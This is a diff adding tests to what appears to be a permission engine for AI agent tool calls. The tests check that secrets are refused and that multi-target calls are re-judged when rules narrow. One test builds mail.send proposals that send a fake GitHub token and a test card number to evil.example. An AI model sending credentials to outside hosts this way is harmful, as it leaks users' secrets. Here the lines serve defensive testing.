@@ -449,3 +449,48 @@ def test_split_call_reads_back_what_canonical_call_writes() -> None:
     line = canonical_call("t", "/main path", extras)
     assert split_call("t", line) == ("/main path", tuple(sorted(extras)))
     assert split_call("t", canonical_call("t", "-")) == ("-", ())
+
+
+def test_admission_refuses_a_secret_in_a_further_target_before_it_is_ordered() -> None:
+    """A raw secret must never enter a block (issue 15, item 4): the admission check
+    screens further targets as it screens the main one."""
+    w = world()
+    w.add_agent("a", ["mail.send"])
+    leak = Proposal(
+        run_id="n1",
+        tool="mail.send",
+        target="mailto:bob@example.com",
+        targets=(RoleTarget("recipient", "mailto:x@evil.example?token=ghp_" + "a1" * 18),),
+    )
+    card = Proposal(
+        run_id="n1",
+        tool="mail.send",
+        target="mailto:bob@example.com",
+        targets=(RoleTarget("recipient", "mailto:4111111111111111@evil.example"),),
+    )
+    for payload in (leak, card):
+        data = w.tx(w.keys["a"], payload)
+        result = w.engine.admission_check(data)
+        assert (result.accepted, result.reason) == (False, Reason.SECRET_IN_PLAINTEXT)
+
+
+def test_a_pending_call_with_several_targets_is_judged_again_on_every_target() -> None:
+    w = world()
+    rules = [ToolRules("files.share", (any_rule(), domain("example.com", "grantee")))]
+    w.add_agent("a", ["files.share"], rules=rules)
+    grantees = [("grantee", "mailto:ann@example.com"), ("grantee", "mailto:bo@sales.example.com")]
+    first = w.propose("a", "files.share", "/shared/q1.pdf", targets=grantees)
+    second = w.propose("a", "files.share", "/shared/q2.pdf", targets=grantees)
+    assert first.card is not None and second.card is not None
+    confirmed = w.confirm(w.owner, first.proposal_id, first.card.digest)
+    assert confirmed.outcome is Outcome.ALLOW, confirmed.reason
+    assert confirmed.canonical_target == first.canonical_target
+    # the grantee rule narrows before the second card is answered: judged again, refused
+    narrower = [
+        ToolRules(
+            "files.share", (any_rule(), TargetRule(RuleKind.HOST, "example.com", role="grantee"))
+        )
+    ]
+    w.set_mandate("a", ["files.share"], rules=narrower)
+    refused = w.confirm(w.owner, second.proposal_id, second.card.digest)
+    assert (refused.outcome, refused.reason) == (Outcome.DENY, Reason.OUT_OF_SCOPE)
